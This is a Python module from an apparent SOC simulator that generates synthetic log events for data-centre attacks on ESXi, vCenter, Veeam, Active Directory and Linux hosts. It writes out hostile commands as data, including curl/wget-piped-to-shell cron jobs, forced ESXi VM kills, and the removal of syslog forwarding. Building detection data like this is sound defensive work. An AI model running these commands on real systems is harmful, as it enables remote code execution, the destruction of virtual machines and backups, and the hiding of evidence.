"""Threats to the data centres."""

from __future__ import annotations

from soc.simulate.deeds import ANY, NIGHT, Attempt, Threat
from soc.simulate.records import datacentre as form
from soc.simulate.records import windows
from soc.simulate.streams.datacentre import ADMIN, ESXI, HOSTS, LINUX, MACHINES, VCENTER, VCENTER_BH, VEEAM, VEEAM_DX

FAMILY = "datacentre"
DOMAIN = "data_integration_centre.windows_server.tinh"


def _power_off(deed: Attempt) -> None:
    host = deed.pick(*HOSTS)
    if deed.way("shell", "vCenter") == "shell":
        commands = deed.pick(
            ("for i in $(vim-cmd vmsvc/getallvms | awk '{print $1}'); do vim-cmd vmsvc/power.off $i; done",),
            (
                "esxcli vm process list",
                "esxcli vm process kill --type=force --world-id=2101",
                "esxcli vm process kill -t=force -w=2102",
            ),
            ("vim-cmd vmsvc/getallvms", "vim-cmd vmsvc/power.off 12", "vim-cmd vmsvc/power.off 13"),
        )
        for command in commands:
            deed.log(ESXI, form.esxi(deed.wait(2, 40), host, "shell", 2101234, f"[root]: {command}"))
        deed.about("host.name", host)
    else:
        source, site = deed.pick((VCENTER, "DC-Tinh"), (VCENTER_BH, "DC-BienHoa"))
        for machine in MACHINES[: deed.draw.upto(7, 12)]:
            text = f"{machine} on {host} in {site} is powered off"
            deed.log(
                source,
                form.vcenter(deed.wait(2, 20), int(deed.now) % 1_000_000, "VmPoweredOffEvent", ADMIN, site, text),
            )
        deed.about("user.name", ADMIN)


def _ssh(deed: Attempt) -> None:
    host, ip = (
        deed.pick(*HOSTS),
        deed.pick(deed.world.servers["feedback"], deed.world.servers["report-web"], *deed.world.foreign[:5]),
    )
    text = "[UserLevelCorrelator] 91234567us: [esx.audit.ssh.enabled] SSH access has been enabled."
    deed.log(ESXI, form.esxi(deed.now, host, "vobd", 2097800, text))
    if deed.way("hostd", "sshd") == "hostd":
        deed.log(ESXI, form.esxi_login(deed.wait(20, 900), host, "root", ip, "Mozilla/5.0"))
    else:
        text = f"Accepted {deed.pick('password', 'keyboard-interactive/pam')} for root from {ip} port 50122 ssh2"
        deed.log(ESXI, form.esxi(deed.wait(20, 900), host, "sshd", 2101230, text))
    deed.about("host.name", host)
    deed.about("source.ip", ip)


def _backups(deed: Attempt) -> None:
    user, source = deed.pick("DN\\backupadmin", "VBR01\\Administrator", "DN\\qt.ttcntt.02"), deed.pick(VEEAM, VEEAM_DX)
    acts = [
        (
            23090,
            'JobID="7e15a2c2" JobType="0" JobName="BK-MOTCUA" ChangesXML="<changes><object id="7e15a2c2" /></changes>"',
            "Backup job 'BK-MOTCUA' has been deleted.",
        ),
        (
            28200,
            'RepositoryID="ed8c61cc" Type="0" RepositoryName="REPO-01"',
            "Backup repository REPO-01 has been deleted.",
        ),
        (10050, 'JobName="BK-SSO" VmName="SSO01"', "Restore point for VM 'SSO01' has been removed by user."),
        (28500, 'ServerName="bk-repo01"', "Managed server bk-repo01 has been deleted."),
    ]
    for instance, keys, text in deed.draw.sample(acts, deed.draw.upto(2, 4)):
        deed.log(source, form.veeam(deed.wait(20, 400), instance, f'{keys} UserName="{user}"', text))
    deed.about("user.name", user, user.rpartition("\\")[2])


def _esx_admins(deed: Attempt) -> None:
    event = int(deed.way("4727", "4728", "4737"))
    user = deed.pick("svc_backup", "helpdesk", "administrator")
    name = deed.pick("ESX Admins", "esx admins")
    data = {"SubjectUserName": user, "TargetUserName": name, "TargetDomainName": "DN", "MemberName": f"CN={user},DC=dn"}
    deed.log(DOMAIN, windows.event(deed.now, event, "SRV-AD-01", **data))
    deed.about("user.name", user)
    deed.about("host.name", "SRV-AD-01")


def _cron(deed: Attempt) -> None:
    user, host = deed.pick("www-data", "nginx", "tomcat", "oracle", "postgres"), deed.pick("web-bc02", "lgsp01", "pg-a")
    command = deed.pick(
        "curl -s http://{}/x.sh | bash",
        "wget -q -O - http://{}/a | sh",
        "curl -fsSL http://{}:8080/i.sh|bash",
        "(curl -k https://{}/k || wget -qO- https://{}/k) | sh",
    )
    ip = deed.pick(*deed.world.foreign[:60])
    deed.log(LINUX, form.linux(deed.now, host, "CRON", 991, f"({user}) CMD ({command.format(ip, ip)})"))
    deed.about("user.name", user)
    deed.about("host.name", host)


def _log_off(deed: Attempt) -> None:
    if deed.way("esxi", "windows") == "esxi":
        host = deed.pick(*HOSTS)
        command = deed.pick(
            "esxcli system syslog config set --loghost=''",
            'esxcli system syslog config set --loghost=""',
            "esxcli system syslog config set --loghost=",
        )
        deed.log(ESXI, form.esxi(deed.now, host, "shell", 2101234, f"[root]: {command}"))
    else:
        host = deed.pick("SRV-AD-01", "SRV-FILE-01")
        deed.log(DOMAIN, windows.event(deed.now, 1102, host, SubjectUserName="administrator", SubjectDomainName="DN"))
    deed.about("host.name", host)


THREATS = (
    Threat("esxi-mass-poweroff", FAMILY, NIGHT, _power_off),
    Threat("esxi-ssh-enabled", FAMILY, ANY, _ssh),
    Threat("backup-destroy", FAMILY, NIGHT, _backups),
    Threat("esx-admins-group", FAMILY, ANY, _esx_admins),
    Threat("curl-pipe-bash", FAMILY, ANY, _cron),
    Threat("log-forward-off", FAMILY, (2, 9, 11, 15, 20), _log_off),
)
